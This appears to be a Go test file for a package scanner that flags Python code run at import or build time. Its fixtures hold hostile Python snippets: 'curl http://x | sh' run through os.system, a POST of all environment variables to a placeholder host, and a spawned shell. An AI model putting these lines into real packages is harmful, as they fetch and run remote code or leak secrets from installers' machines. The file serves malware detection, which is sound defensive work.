package inspect

import (
	"archive/tar"
	"strings"
	"testing"

	"airlock/internal/fakepypi"
)

// held returns the high or critical findings of a wheel built from files.
func heldIn(t *testing.T, rep *Report) []Finding {
	t.Helper()
	var out []Finding
	for _, f := range rep.Findings {
		if f.Severity == High || f.Severity == Critical {
			out = append(out, f)
		}
	}
	return out
}

const bootSpawn = "import subprocess\n\ndef _spawn(cmd):\n    subprocess.Popen(cmd)\n\ndef init():\n    _spawn(['/bin/sh', '-c', 'id'])\n\nclass Runner:\n    def start(self):\n        init()\n"

// A function defined in one module and called at import by another runs
// at import: the finding is as severe as if it were at the top level, on
// the line that does it, and names who calls it.
func TestCallsBetweenModulesAreFollowed(t *testing.T) {
	for _, tt := range []struct {
		name  string
		files map[string]string
		// want is the path and line held, and a word of the message ("" =
		// nothing held).
		path   string
		line   int
		caller string
	}{
		{"imported and called", map[string]string{
			"pkg/__init__.py": "from ._boot import init\ninit()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py calls pkg._boot.init"},
		{"aliased, through a local function", map[string]string{
			"pkg/__init__.py": "from . import _boot as b\n\ndef _setup():\n    b.init()\n\n_setup()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py"},
		{"a method of an imported class", map[string]string{
			"pkg/__init__.py": "from pkg._boot import Runner\nRunner().start()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg._boot.Runner.start"},
		{"re-exported by a package, called by a sibling", map[string]string{
			"pkg/__init__.py": "from .util import log\n", "pkg/util/__init__.py": "from ._impl import init as log\n",
			"pkg/util/_impl.py": bootSpawn, "pkg/cli.py": "from pkg import log\nlog()\n"}, "pkg/util/_impl.py", 4, "pkg/cli.py"},
		{"through a star import", map[string]string{
			"pkg/__init__.py": "from .impl import *\n", "pkg/impl.py": "from ._boot import *\n", "pkg/_boot.py": bootSpawn,
			"pkg/main.py": "import pkg\npkg.init()\n"}, "pkg/_boot.py", 4, "pkg/main.py"},
		{"three modules deep", map[string]string{
			"pkg/__init__.py": "from .a import go\ngo()\n", "pkg/a.py": "from .b import step\n\ndef go():\n    step()\n",
			"pkg/b.py": "from ._boot import init\n\ndef step():\n    init()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py calls pkg.a.go at its top level"},
		{"handed to a thread", map[string]string{
			"pkg/__init__.py": "import threading\nfrom ._boot import init\nthreading.Thread(target=init).start()\n", "pkg/_boot.py": bootSpawn}, "pkg/_boot.py", 4, "pkg/__init__.py"},
		{"used as a decorator", map[string]string{
			"pkg/__init__.py": "from ._hooks import register\n\n@register\ndef f():\n    pass\n",
			"pkg/_hooks.py":   "import os\n\ndef register(fn):\n    os.system('curl http://x | sh')\n    return fn\n"}, "pkg/_hooks.py", 4, "pkg._hooks.register"},
		{"exfiltration in a sibling", map[string]string{
			"pkg/__init__.py":  "from .telemetry import ping\nping()\n",
			"pkg/telemetry.py": "import os, requests\n\ndef ping():\n    requests.post('https://x', json=dict(os.environ))\n"}, "pkg/telemetry.py", 4, "pkg/__init__.py"},
		// Imported, but called only inside functions nobody calls at import.
		{"called only later", map[string]string{
			"pkg/__init__.py": "from ._boot import init\n\ndef main():\n    init()\n", "pkg/_boot.py": bootSpawn}, "", 0, ""},
		{"a harmless sibling function", map[string]string{
			"pkg/__init__.py": "from ._boot import helper\nhelper()\n", "pkg/_boot.py": bootSpawn + "\ndef helper():\n    return 1\n"}, "", 0, ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			extra := map[string]string{}
			for k, v := range tt.files {
				extra[k] = v
			}
			fn, data := wheel(t, fakepypi.WheelSpec{Name: "pkg", Version: "1.0", Extra: extra})
			rep, err := inspectBytes(t, fn, data)
			if err != nil {
				t.Fatal(err)
			}
			held := heldIn(t, rep)
			if tt.path == "" {
				if len(held) != 0 {
					t.Fatalf("held: %+v", held)
				}
				return
			}
			if len(held) != 1 || held[0].Path != tt.path || held[0].Line != tt.line {
				t.Fatalf("held %+v, want %s:%d", held, tt.path, tt.line)
			}
			if !strings.Contains(held[0].Message, tt.caller) || !strings.Contains(held[0].Message, "when the package is imported") {
				t.Errorf("message %q does not say %q", held[0].Message, tt.caller)
			}
			for _, f := range rep.Findings {
				if f.Path == tt.path && f.Line == tt.line && f.Severity == Medium {
					t.Errorf("the not-at-import finding stays beside the held one: %+v", f)
				}
			}
		})
	}
}

// setup.py importing the package's own build helper runs it at build.
func TestSetupPyCallsIntoThePackage(t *testing.T) {
	names := map[string]string{
		"demo-1.0/setup.py":              "from setuptools import setup\nfrom demo._build import prepare\nprepare()\nsetup(name='demo')\n",
		"demo-1.0/demo/__init__.py":      "",
		"demo-1.0/demo/_build.py":        "import os\n\ndef prepare():\n    os.system('curl -s http://x/p | sh')\n",
		"demo-1.0/tools/not_imported.py": "import os\n\ndef f():\n    os.system('x')\n",
	}
	var headers []tar.Header
	for n := range names {
		headers = append(headers, tar.Header{Name: n, Typeflag: tar.TypeReg})
	}
	rep, err := inspectBytes(t, "demo-1.0.tar.gz", tarGz(t, headers, names))
	if err != nil {
		t.Fatal(err)
	}
	held := heldIn(t, rep)
	if len(held) != 1 || held[0].Path != "demo-1.0/demo/_build.py" || held[0].Line != 4 ||
		!strings.Contains(held[0].Message, "built or installed") || !strings.Contains(held[0].Message, "demo-1.0/setup.py calls demo._build.prepare") {
		t.Fatalf("held: %+v", held)
	}
}
